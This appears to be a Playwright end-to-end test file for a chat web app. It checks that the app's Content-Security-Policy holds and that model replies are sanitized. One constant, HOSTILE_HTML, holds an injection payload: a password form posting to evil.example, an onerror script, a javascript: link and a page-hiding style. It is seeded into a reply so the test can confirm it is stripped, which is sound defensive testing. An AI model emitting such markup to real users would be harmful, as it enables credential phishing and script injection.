"""The app works under its Content-Security-Policy: signing in, chatting, sharing and the staff pages
raise no violation (the page fixture fails a test on any), and model output stays inert."""
from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from .conftest import LiveServer, sign_in

pytestmark = pytest.mark.e2e

STAFF_PAGES = ["/gateways/providers/", "/gateways/providers/add/", "/gateways/routes/", "/gateways/health/",
               "/team/people/", "/team/invites/", "/usage/report/", "/usage/me/", "/accounts/tokens/", "/admin/",
               "/admin/gateways/provider/"]
HOSTILE_HTML = ('<form action="https://evil.example/"><input name="password"><button>Log in again</button>'
                '<textarea></textarea><select><option>a</option></select></form><iframe src="/"></iframe>'
                '<style>body{display:none}</style><p style="position:fixed;inset:0">read me</p>'
                '<img src="x" onerror="window.pwned=1"><a href="javascript:alert(1)">link</a>')


def test_chat_sign_in_and_staff_pages_run_under_the_policy(page: Page, grokweb_server: LiveServer) -> None:
    response = page.goto("/accounts/login/")
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    sign_in(page, grokweb_server)

    box = page.locator("#input")
    box.fill("Show me some code and math [[tokens=60]]")
    box.press("Enter")
    reply = page.locator("#thread article.msg-assistant").last
    expect(reply).to_have_attribute("data-status", "complete", timeout=30_000)
    page.reload()  # the early socket (a file now, not inline) and the modules load again
    expect(page.locator("#thread article.msg-assistant").last).to_have_attribute("data-status", "complete")

    for url in STAFF_PAGES:
        page.goto(url)
        expect(page.locator("body")).to_be_visible()
    page.set_viewport_size({"width": 390, "height": 800})
    page.goto("/team/people/")
    page.get_by_role("button", name="Menu").click()  # the folding navigation runs from pages.js
    expect(page.locator("#page-nav")).to_have_class(re.compile(r"\bis-open\b"))
    assert not page.csp_violations  # type: ignore[attr-defined]
    assert not [e for e in page.js_errors if "Content Security Policy" in e]  # type: ignore[attr-defined]


SEED_REPLY = """
from django.contrib.auth import get_user_model
from chat.models import Conversation, Message
owner = get_user_model().objects.get(username={user!r})
conv = Conversation.objects.create(owner=owner, title='Hostile reply')
q = Message.objects.create(conversation=conv, role='user', status='complete', content='Show me a form.')
a = Message.objects.create(conversation=conv, parent=q, role='assistant', status='complete', content={html!r})
conv.current_leaf_id = a.id
conv.save()
print(conv.id)
"""


def test_model_output_keeps_no_forms_inputs_frames_or_styles(page: Page, grokweb_server: LiveServer) -> None:
    seeded = grokweb_server.manage("shell", "-c", SEED_REPLY.format(user=grokweb_server.username, html=HOSTILE_HTML))
    path = f"/c/{seeded.strip().splitlines()[-1]}/"
    sign_in(page, grokweb_server)
    page.goto(path)
    content = page.locator("#thread article.msg-assistant .content")
    expect(content).to_contain_text("read me")
    expect(page.locator("#model")).to_be_enabled()
    html = content.inner_html()
    for tag in ("<form", "<input", "<button", "<textarea", "<select", "<option", "<iframe", "<style"):
        assert tag not in html, html
    assert "style=" not in html and "onerror" not in html and "javascript:" not in html
    assert "read me" in html  # the text itself stays
    assert page.evaluate("() => window.pwned") is None
    # While DOMPurify parses the hostile text, the browser refuses its <style> and its onerror
    # on the policy's account: reported, not run. Those two reports are this test's own.
    blocked = page.csp_violations  # type: ignore[attr-defined]
    assert all(v.startswith(f"{path}: ") and " blocked inline " in v for v in blocked), blocked
    assert {v.split()[1] for v in blocked} <= {"style-src-elem", "script-src-attr"}, blocked
    blocked.clear()
